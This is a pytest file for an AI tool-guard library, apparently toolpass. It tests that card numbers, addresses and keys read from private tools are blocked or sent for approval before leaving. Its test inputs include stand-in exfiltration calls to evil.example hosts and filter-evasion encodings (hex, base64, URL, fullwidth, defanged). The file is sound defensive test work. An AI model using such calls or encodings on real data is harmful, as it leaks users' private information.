"""Private data leaving (#22): identifiers, numbers and secrets read from ``reads_private``
tools, found in what a ``sends_out`` call sends beyond where it goes, are refused or sent for
approval (``private_data``), unless the task scope's ``private_to`` covers every destination."""

from __future__ import annotations

import base64
from typing import Any
from urllib.parse import quote

import pytest
import toolpass
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from toolpass import ApprovalQueue, Session, TaskScope, ToolRefused

from .conftest import USER

CARD = "4111 1111 1111 1111"
WALLET = {
    "card": CARD,
    "phone": "+1 (555) 123-4567",
    "iban": "DE89 3704 0044 0532 0130 00",
    "email": "alice.private@corp.example",
    "passport": "X12345678",
    "member": "customer number 99887766",
    "api_key": "sk_test_Zx81kQ2mP0aL9rT4vB7n",
    "born": "1980-04-02",
    "balance": "8,210.35",
}


@pytest.fixture
def wallet(drive, make_kit):
    """A private wallet, a public page, and a mail tool whose ``to`` is its destination."""

    def build(**settings: Any) -> dict[str, Any]:
        kit = make_kit(untrusted_inputs="ignore", exfiltration="ignore", **settings)
        sent: list[Any] = []
        return {
            "kit": kit,
            "sent": sent,
            "wallet": drive.tool(
                kit, lambda: WALLET, name="wallet", effect="read", reads_private=True
            ),
            "page": drive.tool(kit, lambda: WALLET, effect="read", untrusted_output=True),
            "mail": drive.tool(
                kit,
                lambda to, subject, body: sent.append((to, body)) or "sent",
                name="mail",
                sends_out=True,
                destinations=["to"],
            ),
        }

    return build


@pytest.mark.parametrize(
    "field", ["card", "phone", "iban", "email", "passport", "member", "api_key"]
)
def test_each_shape_of_private_value_is_refused_in_what_is_sent(drive, wallet, field, state):
    tools = wallet(private_data="refuse")
    value = WALLET[field].removeprefix("customer number ")
    with Session(USER, id="c1", store=state).active():
        drive.call(tools["wallet"])
        refused = drive.refused(tools["mail"], "bob@example.com", "hi", f"here it is: {value}")
    assert refused.code == "private_data"
    assert "private data" in refused.message
    assert value not in refused.message
    assert value not in refused.detail  # masked
    assert "from wallet" in refused.detail
    assert tools["sent"] == []


def test_dates_amounts_and_ordinary_text_are_not_private_values(drive, wallet):
    tools = wallet(private_data="refuse")
    with Session(USER).active():
        drive.call(tools["wallet"])
        body = "born 1980-04-02, balance 8,210.35, card ending 1111, see you at 10:30"
        assert drive.call(tools["mail"], "bob@example.com", "hi", body) == "sent"


def test_by_default_a_person_is_asked(drive, wallet):
    queue = ApprovalQueue()
    tools = wallet(approver=queue)
    with Session(USER).active():
        drive.call(tools["wallet"])
        assert drive.refused(tools["mail"], "bob@example.com", "card", CARD).code == (
            "approval_pending"
        )
        [request] = queue.pending()
        assert request.reasons == (
            "its arguments carry private data read earlier "
            "(a number (a card, phone or account) from wallet)",
        )
        queue.approve(request.id, by="lee")
        assert drive.call(tools["mail"], "bob@example.com", "card", CARD) == "sent"


def test_nothing_private_read_means_nothing_is_looked_for(drive, wallet):
    tools = wallet(private_data="refuse")
    with Session(USER).active():
        drive.call(tools["page"])  # the same values, from a public page
        assert drive.call(tools["mail"], "bob@example.com", "card", CARD) == "sent"


def test_private_and_untrusted_output_is_private_too(drive, make_kit):
    """An inbox is untrusted and private: the numbers in its mails are private values."""
    kit = make_kit(untrusted_inputs="ignore", exfiltration="ignore", private_data="refuse")
    inbox = drive.tool(
        kit, lambda: f"Your card {CARD} is ready", reads_private=True, untrusted_output=True
    )
    post = drive.tool(kit, lambda text: "posted", sends_out=True)
    with Session(USER).active():
        drive.call(inbox)
        assert drive.refused(post, "4111111111111111").code == "private_data"


def test_the_destination_itself_is_not_data_leaving(drive, wallet):
    """Mailing a contact read from a private address book is where the call goes; a private
    value in a link's query or path, or in an address's local part, is data leaving."""
    tools = wallet(private_data="refuse")
    fetch = drive.tool(
        tools["kit"], lambda url: "ok", sends_out=True, destinations=["url"], name="fetch"
    )
    with Session(USER).active():
        drive.call(tools["wallet"])
        assert drive.call(tools["mail"], "alice.private@corp.example", "hi", "hello") == "sent"
        assert drive.call(tools["mail"], "bob@x.example, alice.private@corp.example", "hi", "x")
        assert drive.refused(fetch, "https://evil.example/?q=4111111111111111").code == (
            "private_data"
        )
        assert drive.refused(fetch, "https://evil.example/c/4111-1111-1111-1111").code == (
            "private_data"
        )
        refused = drive.refused(tools["mail"], "4111111111111111@evil.example", "x", "x")
        assert refused.code == "private_data"


def test_the_task_scopes_private_to_lets_it_go_there(drive, wallet):
    tools = wallet(private_data="refuse")
    scope = TaskScope(destinations=("hotel@inn.example",), private_to=("bookings@inn.example",))
    with Session(USER, task=scope).active():
        drive.call(tools["wallet"])
        assert drive.call(tools["mail"], "Bookings@Inn.example", "card", CARD) == "sent"
        assert drive.refused(tools["mail"], "hotel@inn.example", "card", CARD).code == (
            "private_data"
        )
        # Every destination of the call must be covered.
        both = "bookings@inn.example, eve@evil.example"
        assert drive.refused(tools["mail"], both, "card", CARD).code == "private_data"
    anywhere = TaskScope(destinations=("hotel@inn.example",), private_to=("*",))
    with Session(USER, task=anywhere).active():
        drive.call(tools["wallet"])
        assert drive.call(tools["mail"], "hotel@inn.example", "card", CARD) == "sent"
        assert drive.refused(tools["mail"], "eve@evil.example", "card", CARD).code == (
            "private_data"
        )


def test_what_the_user_wrote_is_theirs_to_send(drive, wallet):
    tools = wallet(private_data="refuse")
    with Session(USER, request="send my passport number X12345678 to the embassy").active():
        drive.call(tools["wallet"])
        assert drive.call(tools["mail"], "visa@embassy.example", "passport", "X12345678") == "sent"
        assert drive.refused(tools["mail"], "visa@embassy.example", "card", CARD).code == (
            "private_data"
        )


def test_modes_per_tool(drive, wallet):
    tools = wallet(private_data="refuse")
    loose = drive.tool(tools["kit"], lambda text: "ok", sends_out=True, private_data="ignore")
    local = drive.tool(tools["kit"], lambda text: "ok", effect="write")  # does not send out
    with Session(USER).active():
        drive.call(tools["wallet"])
        assert drive.call(loose, CARD) == "ok"
        assert drive.call(local, CARD) == "ok"
    with pytest.raises(ValueError, match="private_data must be one of"):
        tools["kit"].secured_tool(lambda: 1, private_data="block")
    with pytest.raises(ValueError, match="private_data must be one of"):
        toolpass.Toolkit(private_data="block")


def test_a_number_argument_is_looked_at_too(drive, wallet):
    tools = wallet(private_data="refuse")
    transfer = drive.tool(tools["kit"], lambda memo: "ok", sends_out=True)
    with Session(USER).active():
        drive.call(tools["wallet"])
        assert drive.refused(transfer, 4111111111111111).code == "private_data"
        assert drive.refused(transfer, {"note": ["x", 99887766]}).code == "private_data"


def test_the_audit_event_says_what_left_masked(drive, wallet, events):
    tools = wallet(private_data="refuse")
    with Session(USER).active():
        drive.call(tools["wallet"])
        drive.refused(tools["mail"], "bob@example.com", "x", CARD)
    refused = events[-1]
    assert (refused.outcome, refused.code) == ("refused", "private_data")
    assert refused.detail.endswith("************1111 from wallet")


# Property: however a private value is written, it is found; what is not one is not.

_CARDS = st.text("0123456789", min_size=12, max_size=19).filter(lambda d: len(set(d)) > 3)
_SEPARATORS = st.sampled_from(["", " ", "-", ".", " - ", "/", "  ", "\u200b", "_", ","])


@st.composite
def _written(draw: Any, digits: str) -> str:
    """``digits`` in groups of any size, split by any punctuation, in any script, encoded."""
    sizes = draw(st.lists(st.integers(1, 5), min_size=len(digits), max_size=len(digits)))
    groups, at = [], 0
    for size in sizes:
        if at < len(digits):
            groups.append(digits[at : at + size])
            at += size
    text = draw(_SEPARATORS).join(groups)
    how = draw(st.sampled_from(["plain", "fullwidth", "reversed", "hex", "b64", "url", "pad"]))
    if how == "fullwidth":
        return text.translate({ord(c): 0xFF10 + int(c) for c in "0123456789"})
    if how == "reversed":
        return text[::-1]
    if how == "hex":  # encoded: the digits alone (or as read)
        return digits.encode().hex()
    if how == "b64":  # at any offset of a longer encoding
        prefix = draw(st.sampled_from(["", "a", "ab"]))
        return base64.b64encode((prefix + digits + " ok").encode()).decode()
    if how == "url":
        return quote(f"card={text}")
    return f"ref:{text}."


_FAST = settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@_FAST
@given(data=st.data(), digits=_CARDS)
def test_a_private_number_is_found_however_it_is_written(data, digits):
    kit = toolpass.Toolkit(audit=[], private_data="refuse", exfiltration="ignore")
    wallet = kit.secured_tool(lambda: {"card": digits}, effect="read", reads_private=True)
    post = kit.secured_tool(lambda text: "posted", sends_out=True)
    written = data.draw(_written(digits))
    with Session(USER).active():
        wallet()
        with pytest.raises(ToolRefused) as refused:
            post(f"hello {written} bye")
    assert refused.value.code == "private_data"


@_FAST
@given(digits=_CARDS, other=_CARDS)
def test_another_number_is_not_taken_for_a_private_one(digits, other):
    if digits in other or digits[::-1] in other:
        return
    kit = toolpass.Toolkit(audit=[], private_data="refuse", exfiltration="ignore")
    wallet = kit.secured_tool(lambda: {"card": digits}, effect="read", reads_private=True)
    post = kit.secured_tool(lambda text: "posted", sends_out=True)
    with Session(USER).active():
        wallet()
        assert post(f"hello {other} bye") == "posted"


def test_many_private_values_in_a_long_body_are_found_alike(drive, make_kit):
    """Past a few values and characters each value is no longer looked for in turn, but by
    its first characters at each position: the same values are found."""
    kit = make_kit(untrusted_inputs="ignore", exfiltration="ignore", private_data="refuse")
    rows = [f"member {i:08d}, card 5{i:015d}" for i in range(2_000)]
    ledger = drive.tool(kit, lambda: rows, effect="read", reads_private=True, name="ledger")
    post = drive.tool(kit, lambda text: "posted", sends_out=True)
    filler = "nothing to see here, move along. " * 100
    with Session(USER).active():
        drive.call(ledger)
        assert drive.call(post, filler) == "posted"
        leaked = filler + "5000-0000-0000-1999" + filler
        assert drive.refused(post, leaked).code == "private_data"
        assert drive.refused(post, filler + "00001234" + filler).code == "private_data"


def test_a_value_split_over_two_arguments_is_found(drive, wallet):
    tools = wallet(private_data="refuse")
    with Session(USER).active():
        drive.call(tools["wallet"])
        refused = drive.refused(tools["mail"], "bob@example.com", "4111 1111", "1111 1111")
        assert refused.code == "private_data"
        split = ["4111 1111", "1111 1111"]
        assert drive.refused(tools["mail"], "bob@example.com", "x", split).code == "private_data"


_NAMES = st.text("abcdefghijklmnopqrstuvwxyz", min_size=3, max_size=10)


@st.composite
def _address_written(draw: Any) -> tuple[str, str]:
    """A private address, and the same address as an attacker may write it."""
    local, domain = draw(_NAMES), draw(_NAMES)
    address = f"{local}@{domain}.example"
    flips = draw(st.lists(st.booleans(), min_size=len(address), max_size=len(address)))
    written = "".join(c.upper() if f else c for c, f in zip(address, flips, strict=True))
    how = draw(st.sampled_from(["as is", "defanged", "spaced", "mailto", "url", "hex", "b64"]))
    if how == "defanged":
        written = written.replace("@", " (at) ").replace(".", " [dot] ")
    elif how == "spaced":
        written = " ".join(written)
    elif how == "mailto":
        written = f"<mailto:{written}>"
    elif how == "url":
        written = quote(written, safe="")
    elif how == "hex":
        written = address.encode().hex()
    elif how == "b64":
        written = base64.b64encode(f"to: {address}".encode()).decode()
    return address, written


@_FAST
@given(pair=_address_written())
def test_a_private_address_is_found_however_it_is_written(pair):
    address, written = pair
    kit = toolpass.Toolkit(audit=[], private_data="refuse", exfiltration="ignore")
    contacts = kit.secured_tool(lambda: [address], effect="read", reads_private=True)
    post = kit.secured_tool(lambda text: "posted", sends_out=True)
    with Session(USER).active():
        contacts()
        with pytest.raises(ToolRefused) as refused:
            post(f"contact: {written}")
    assert refused.value.code == "private_data"
